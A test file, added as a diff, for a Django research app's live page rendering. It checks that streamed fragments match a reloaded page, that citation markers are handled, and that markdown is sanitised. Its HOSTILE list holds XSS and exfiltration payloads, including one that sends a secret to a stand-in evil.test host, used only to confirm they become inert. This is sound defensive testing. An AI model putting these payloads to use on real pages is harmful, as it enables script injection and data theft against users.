@@ -1,0 +1,196 @@
+"""The page live and the page reloaded are one thing, fragment by fragment."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from uuid import uuid4
+
+import pytest
+from django.utils.html import escape
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from research.faces import fragments
+from research.faces.cache import Cache
+from research.faces.fragments import Scope, ops, render
+from research.faces.pieces import Page
+from research.fold import fold
+from research.rendering import markdown, streaming
+from tests.research import recorded
+
+EVENTS = recorded.whole()
+LOG = recorded.texts(EVENTS)
+SCOPE = Scope(uuid4(), "e1", "en")
+LANE = frozenset({"task_2"})
+END_OF_TEXT = re.compile(r"(<span data-text>[^<]*)(</span>)")
+
+
+
+@pytest.fixture(autouse=True, scope="module")
+def no_memory() -> Iterator[None]:
+    """Render everything anew: what is remembered would hide that a fragment changed unannounced."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(fragments, "_rendered", Cache(0))
+        yield
+
+
+Dom = dict[str, tuple[str, int, str]]
+"""The page, by id: its container, its order there, its HTML."""
+
+
+def order_of(html: str) -> int:
+    found = re.search(r'data-order="(\d+)"', html)
+    assert found, html
+    return int(found[1])
+
+
+def page_at(upto: int, lanes: frozenset[str] | None = None) -> Dom:
+    state = fold(None, LOG[:upto])
+    dom = {}
+    for piece in Page(state, lanes).pieces():
+        html = render(SCOPE, piece)
+        assert piece.id not in dom, "an id stands once on a page"
+        dom[piece.id] = (piece.into, order_of(html), html)
+    return dom
+
+
+def applied(dom: Dom, after: int, upto: int, lanes: frozenset[str] | None = None) -> Dom:
+    dom = dict(dom)
+    for op in ops(SCOPE, fold(None, LOG[:upto]), after, lanes):
+        match op:
+            case {"op": "drop", "id": name}:
+                dom.pop(name, None)
+            case {"op": "text", "id": name, "text": text}:
+                into, order, html = dom[name]
+                html, count = END_OF_TEXT.subn(lambda m: m[1] + escape(text) + m[2], html)
+                assert count == 1
+                dom[name] = (into, order, html)
+            case {"op": "put", "id": name, "into": into, "html": html}:
+                dom[name] = (into, order_of(html), html)
+    return dom
+
+
+cuts = st.lists(st.integers(0, len(LOG)), min_size=2, max_size=6).map(sorted)
+
+
+@settings(max_examples=150, deadline=None)
+@given(cuts, st.sampled_from([None, LANE]))
+def test_a_page_that_followed_equals_a_page_that_was_loaded_wherever_it_was_cut(
+    places: list[int], lanes: frozenset[str] | None
+) -> None:
+    dom = page_at(places[0], lanes)
+    for after, upto in zip(places, places[1:], strict=False):
+        dom = applied(dom, after, upto, lanes)
+        assert dom == page_at(upto, lanes)
+
+
+def test_a_page_that_followed_every_single_event_equals_the_page_at_the_end() -> None:
+    dom = page_at(0)
+    for seq in range(1, len(LOG) + 1):
+        dom = applied(dom, seq - 1, seq)
+        assert dom == page_at(seq), EVENTS[seq - 1]
+
+
+def test_text_that_comes_is_appended_and_nothing_is_rendered_again() -> None:
+    starts = [n for n, (_, data) in enumerate(EVENTS) if data.type == "message.delta"]
+    second = starts[1]
+    found = ops(SCOPE, fold(None, LOG[: second + 1]), second)
+    assert [op["op"] for op in found] == ["text"]
+    assert found[0]["text"] in "It is *discarded*"
+
+
+def test_a_lane_shows_nothing_of_another() -> None:
+    for into, _, html in page_at(len(LOG), LANE).values():
+        assert into in ("head_task_2", "items_task_2")
+        assert recorded.TITLES[0] not in html
+
+
+def test_what_a_discarded_attempt_said_leaves_the_page() -> None:
+    at = next(n for n, (_, data) in enumerate(EVENTS) if data.type == "attempt.discarded")
+    gone = {op["id"] for op in ops(SCOPE, fold(None, LOG[: at + 1]), at) if op["op"] == "drop"}
+    assert {"tool-c2-1", "note-21", "notecard-21", "msg-mc2-1", "source-2"} <= gone
+
+
+def test_a_section_takes_the_place_of_the_text_it_was_written_as() -> None:
+    at = next(n for n, (_, data) in enumerate(EVENTS) if data.type == "report.section")
+    found = ops(SCOPE, fold(None, LOG[: at + 1]), at)
+    assert {"op": "drop", "id": "msg-s1"} in found
+    assert [op["id"] for op in found if op.get("into") == "report"] == ["section-1"]
+
+
+def test_a_fragment_holds_no_script_of_a_source_and_no_raw_marker() -> None:
+    for _, _, html in page_at(len(LOG)).values():
+        assert "<script" not in html and "<b>and</b>" not in html
+        body = re.sub(r'<pre class="raw">.*?</pre>', "", html, flags=re.S)
+        assert "[S" not in re.sub(r'="[^"]*"', "", body)
+
+
+def test_a_citation_is_a_link_to_its_passage_and_tells_its_verdict() -> None:
+    html = page_at(len(LOG))["section-1"][2]
+    href = f"/runs/{SCOPE.run_id}/sources/1/?start={recorded.START}&amp;end={recorded.END}#quote"
+    assert f'href="{href}"' in html
+    assert "Supported by the passage" in html and "Brought in by researcher-1" in html
+
+
+words = st.text(alphabet="[S12:-3] a漢", max_size=60)
+
+
+@given(words, words)
+def test_what_was_shown_of_a_text_stays_when_more_of_it_comes(some: str, more: str) -> None:
+    assert streaming(some + more).startswith(streaming(some))
+
+
+def test_markers_are_never_shown_raw_while_they_come() -> None:
+    text = "It is so [S12:100-250], and [not] [S3]."
+    for cut in range(len(text) + 1):
+        assert "[S" not in streaming(text[:cut])
+    assert streaming(text) == "It is so ˢ¹², and [not] ˢ³."
+
+
+HOSTILE = (
+    "<script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](vbscript:x)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](//evil.test/a)",
+    "[x](/signout/)",
+    "![a](https://evil.test/?d=SECRET)",
+    "![a][r]\n\n[r]: https://evil.test/x",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<form action=https://evil.test>",
+    "<base href=https://evil.test>",
+    "<style>*{background:url(https://evil.test)}</style>",
+    '<p style="x">',
+    "<math><mglyph><style><img src=x onerror=alert(1)>",
+    "<a id=csrfmiddlewaretoken>",
+    '<span data-cite="1"></span>',
+    "`<span data-cite=\"1\"></span>`",
+)
+
+
+def test_hostile_markdown_becomes_inert() -> None:
+    for text in HOSTILE:
+        html = markdown(text, lambda number: "CITED", lambda marker: "MARKED")
+        assert "CITED" not in html
+        tags = set(re.findall(r"<\s*([a-z0-9]+)", html))
+        assert tags <= {"p", "code", "pre"}, html
+    assert "evil.test/?d" not in markdown("![a](https://evil.test/?d=SECRET)")
+
+
+def test_a_link_names_its_host_and_follows_nobody() -> None:
+    html = markdown("[the docs](https://docs.example/a?b=1&c=2)")
+    assert 'rel="noopener noreferrer nofollow"' in html and "(docs.example)" in html
+
+
+def test_a_very_long_text_is_cut_into_markdown_and_plain_text() -> None:
+    html = markdown("*a* " * 50_000)
+    assert html.count("<em>") == 25_000 and html.count("*a*") == 25_000
+
+
+def test_numbers_that_cite_nothing_stay_as_they_are() -> None:
+    assert markdown("see [7] and `a[0]`") == "<p>see [7] and <code>a[0]</code></p>\n"
